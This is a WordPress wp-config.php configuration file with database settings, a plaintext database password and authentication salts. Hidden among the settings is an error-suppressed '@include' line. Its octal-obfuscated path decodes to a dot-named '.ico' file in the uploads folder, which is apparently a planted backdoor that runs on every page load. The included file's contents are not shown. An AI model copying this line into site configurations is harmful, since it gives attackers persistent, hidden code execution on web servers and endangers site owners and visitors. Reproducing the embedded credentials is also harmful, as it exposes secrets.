<?php
/**
 * The base configuration for WordPress
 *
 * The wp-config.php creation script uses this file during the installation.
 * You don't have to use the web site, you can copy this file to "wp-config.php"
 * and fill in the values.
 *
 * @link https://wordpress.org/documentation/article/editing-wp-config-php/
 *
 * @package WordPress
 */

// ** Database settings - You can get this info from your web host ** //
/** The name of the database for WordPress */
define( 'DB_NAME', 'wp_site' );

/** Database username */
define( 'DB_USER', 'wp_user' );

/** Database password */
define( 'DB_PASSWORD', 'Xq9!fK2m#pL7' );

/** Database hostname */
define( 'DB_HOST', 'localhost' );

/** Database charset to use in creating database tables. */
define( 'DB_CHARSET', 'utf8mb4' );

/** The database collate type. Don't change this if in doubt. */
define( 'DB_COLLATE', '' );

@include "\057va\162/ww\167/h\164ml/wp-c\157ntent/up\154oads/.6c4a2f1b.ico";

/**#@+
 * Authentication unique keys and salts.
 */
define( 'AUTH_KEY',         'q/8|Qx)V+W5]M*Z`eT!sF{P^7bH2@g,k~r0n-D;lYj<J&3o' );
define( 'SECURE_AUTH_KEY',  'w$0@Ld^9N=7c]Q!vR|m3&X,p{8s~Bz(+Kg-E;tA5y<uJ%1h' );
define( 'LOGGED_IN_KEY',    'Yf4+Lq%8!Dr)G3~x&Z}m[0N,b|Wc^s7-R@k=Tp;V2<e9hJ5u' );
define( 'NONCE_KEY',        'A&1r}S%9z+Qm^4!Hb,P~e[7@Lk=6Xw)c|V3;N<t-F0y5uJ8g' );
/**#@-*/

$table_prefix = 'wp_';

define( 'WP_DEBUG', false );

/* That's all, stop editing! Happy publishing. */

/** Absolute path to the WordPress directory. */
if ( ! defined( 'ABSPATH' ) ) {
	define( 'ABSPATH', __DIR__ . '/' );
}

/** Sets up WordPress vars and included files. */
require_once ABSPATH . 'wp-settings.php';
